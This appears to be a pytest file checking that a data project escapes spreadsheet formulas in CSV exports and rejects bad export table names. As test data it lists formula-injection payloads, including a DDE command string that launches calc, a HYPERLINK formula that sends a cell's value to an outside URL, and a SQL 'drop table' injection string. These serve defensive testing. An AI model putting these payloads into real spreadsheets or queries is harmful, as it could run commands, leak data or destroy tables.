"""Nothing that this project writes for a spreadsheet is run by one."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pytest

from orchestration import project, spreadsheets
from orchestration.spreadsheets import as_csv, safe_cell

FORMULAS = [
    *("=1", "+1", "-1", "@x", "\tx", "\rx", "\nx", " =1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "=cmd|' /C calc'!A0"),
    *('=HYPERLINK("https://example.com/?"&A1)', "-2+3+cmd|' /C calc'!A0"),
]
HIDDEN = [
    "\r=1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b@x",
    "\x00=1",
    "\x1f+1",
    "\u2212" + "1",
]
PLAIN = ["a=1", "x-1", "1+1", "", "T-5", "'=1", "100 %", "mail@example.com"]


@pytest.mark.parametrize("text", FORMULAS + HIDDEN)
def test_a_text_that_would_be_a_formula_is_marked(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert safe_cell(f"T{text}") == f"T{text}"


@pytest.mark.parametrize("value", [*PLAIN, -1, 2.5, None, True])
def test_everything_else_stays(value: object) -> None:
    assert safe_cell(value) == value


def test_every_cell_of_a_table_is_marked_and_reads_back() -> None:
    texts = [*FORMULAS, *HIDDEN, *PLAIN, "a\r=1", "b\n=1", 'c"\r\n=1']
    rows = [{"a": text, "b": -1} for text in texts]
    text = as_csv(rows, ["a", "b"]).replace("\x00", "")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[0] == ["a", "b"]
    assert {row[1] for row in cells[1:]} == {"-1"}
    assert not any(row[0].lstrip()[:1] in tuple("=+-@") for row in cells[1:] if row[0])


def test_a_mart_is_exported_marked_while_the_mart_itself_stays_true(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ACSR_HOME", str(tmp_path))
    monkeypatch.delenv("DBT_TARGET", raising=False)
    project.published().mkdir()
    with duckdb.connect(str(project.current())) as connection:
        connection.execute("create schema marts")
        connection.execute(
            "create table marts.fct_escalations as select '=1+1' as reason_detail, "
            "-3 as seconds, timestamp '2026-01-01' as escalated_at"
        )
    path, count = spreadsheets.export("fct_escalations", tmp_path / "exports")
    assert count == 1
    assert path.read_text() == (
        "reason_detail,seconds,escalated_at\n'=1+1,-3,2026-01-01T00:00:00Z\n"
    )
    with duckdb.connect(str(project.current()), read_only=True) as connection:
        held = connection.execute("select reason_detail from marts.fct_escalations")
        assert held.fetchall() == [("=1+1",)]
    for wrong in ("fct_none", "x; drop table marts.fct_escalations"):
        with pytest.raises(project.ProjectError, match="there are fct_escalations"):
            spreadsheets.export(wrong, tmp_path)


def test_the_expression_for_bi_tools_marks_what_this_project_marks() -> None:
    page = (project.ROOT / "docs" / "bi.md").read_text(encoding="utf-8")
    (expression,) = re.findall(
        r"```sql\n-- for spreadsheets\nselect (.*?) as reason_detail\n", page, re.DOTALL
    )
    with duckdb.connect() as connection:
        for text in FORMULAS + PLAIN:
            query = f"select {expression} from (select ? as reason_detail)"
            assert connection.execute(query, [text]).fetchone() == (safe_cell(text),)


def test_no_other_module_writes_csv() -> None:
    writers = [
        path.relative_to(project.ROOT)
        for folder in ("orchestration", "dashboards", "benchmarks")
        for path in (project.ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|to_csv|write_csv", path.read_text())
    ]
    assert writers == [Path("orchestration/spreadsheets.py")]
